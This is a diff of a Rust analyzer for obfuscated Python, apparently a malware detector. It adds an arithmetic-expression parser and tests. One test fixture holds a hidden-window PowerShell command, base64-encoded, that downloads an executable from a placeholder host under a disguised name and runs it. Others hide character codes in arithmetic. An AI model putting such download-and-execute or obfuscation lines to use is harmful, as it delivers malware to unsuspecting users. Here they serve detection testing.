+                        v.checked_mul(1i64 << r)?
+                    } else {
+                        return None;
+                    };
+                }
+                (Some(b'>'), Some(b'>')) => {
+                    self.pos += 2;
+                    let r = self.add()?;
+                    v = if (0..64).contains(&r) {
+                        v >> r
+                    } else {
+                        return None;
+                    };
+                }
+                _ => return Some(v),
+            }
+        }
+    }
+    fn add(&mut self) -> Option<i64> {
+        let mut v = self.mul()?;
+        loop {
+            match self.op(0) {
+                Some(b'+') => {
+                    self.pos += 1;
+                    v = v.checked_add(self.mul()?)?;
+                }
+                Some(b'-') => {
+                    self.pos += 1;
+                    v = v.checked_sub(self.mul()?)?;
+                }
+                _ => return Some(v),
+            }
+        }
+    }
+    fn mul(&mut self) -> Option<i64> {
+        let mut v = self.unary()?;
+        loop {
+            match (self.op(0), self.op(1)) {
+                (Some(b'*'), Some(b'*')) => return None,
+                (Some(b'*'), _) => {
+                    self.pos += 1;
+                    v = v.checked_mul(self.unary()?)?;
+                }
+                (Some(b'/'), Some(b'/')) => {
+                    self.pos += 2;
+                    v = v.checked_div(self.unary()?)?;
+                }
+                (Some(b'%'), _) => {
+                    self.pos += 1;
+                    v = v.checked_rem(self.unary()?)?;
+                }
+                _ => return Some(v),
+            }
+        }
+    }
+    fn unary(&mut self) -> Option<i64> {
+        self.depth += 1;
+        if self.depth > 48 {
+            return None;
+        }
+        let v = self.unary_inner();
+        self.depth -= 1;
+        v
+    }
+    fn unary_inner(&mut self) -> Option<i64> {
+        match self.op(0) {
+            Some(b'-') => {
+                self.pos += 1;
+                self.unary()?.checked_neg()
+            }
+            Some(b'+') => {
+                self.pos += 1;
+                self.unary()
+            }
+            Some(b'~') => {
+                self.pos += 1;
+                Some(!self.unary()?)
+            }
+            Some(b'(') => {
+                self.pos += 1;
+                let v = self.or()?;
+                if self.op(0) != Some(b')') {
+                    return None;
+                }
+                self.pos += 1;
+                Some(v)
+            }
+            _ => match self.toks.get(self.pos) {
+                Some(Tok::Num(n)) => {
+                    self.pos += 1;
+                    parse_int(n).map(i64::from)
+                }
+                _ => None,
+            },
         }
     }
 }
@@ -917,16 +1674,45 @@ mod tests {
     }
 
     #[test]
+    fn arithmetic_char_codes_are_decoded() {
+        // [((1 << 4) - 1) << 3) - 1 ...] style: 'w','i','n','3','2','x','y','z'
+        let src = b"x = ''.join(map(chr, [(((1 << 4) - 1) << 3) - 1, 105, (7 << 4) - (1 << 1), 51, 50, 0x78, 121, 122]))";
+        let a = Extractor::new().analyze(src);
+        assert_eq!(a.layers, 1);
+        assert!(has_signal(&a, "s:ints_layer"));
+    }
+
+    #[test]
+    fn powershell_encoded_command_is_decoded() {
+        let src = b"import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBzAC8AeAAvAEUAcwBxAHUAZQBsAGUALgBlAHgAZQAiACAALQBPAHUAdABGAGkAbABlACAAIgB+AC8AVwBpAG4AZABvAHcAcwBDAGEAYwBoAGUALgBlAHgAZQAiADsAIABJAG4AdgBvAGsAZQAtAEUAeABwAHIAZQBzAHMAaQBvAG4AIAAiAH4ALwBXAGkAbgBkAG8AdwBzAEMAYQBjAGgAZQAuAGUAeABlACIA', shell=False, creationflags=subprocess.CREATE_NO_WINDOW)\n";
+        let a = Extractor::new().analyze(src);
+        assert_eq!(a.layers, 1);
+        assert!(has_signal(&a, "g:download"));
+    }
+
+    #[test]
     fn binary_is_not_python() {
-        assert!(Extractor::new().analyze(b"\x7fELF\x02\x01").not_python.is_some());
+        assert!(Extractor::new()
+            .analyze(b"\x7fELF\x02\x01")
+            .not_python
+            .is_some());
         assert!(Extractor::new().analyze(b"").not_python.is_some());
-        assert!(Extractor::new().analyze(&[0u8, 1, 2, 3, 200, 201]).not_python.is_some());
+        assert!(Extractor::new()
+            .analyze(&[0u8, 1, 2, 3, 200, 201])
+            .not_python
+            .is_some());
     }
 
     #[test]
     fn named_features() {
         let a = Extractor::new().analyze(b"import os\nos.system('id')\n");
-        let want: Vec<u32> = a.features.idx.iter().copied().filter(|&i| i as usize >= N_SIGNALS).collect();
+        let want: Vec<u32> = a
+            .features
+            .idx
+            .iter()
+            .copied()
+            .filter(|&i| i as usize >= N_SIGNALS)
+            .collect();
         let b = Extractor::new().analyze_named(b"import os\nos.system('id')\n", &want);
         assert!(b.names.values().any(|n| n == "c:os.system"));
         assert_eq!(a.features, b.features);
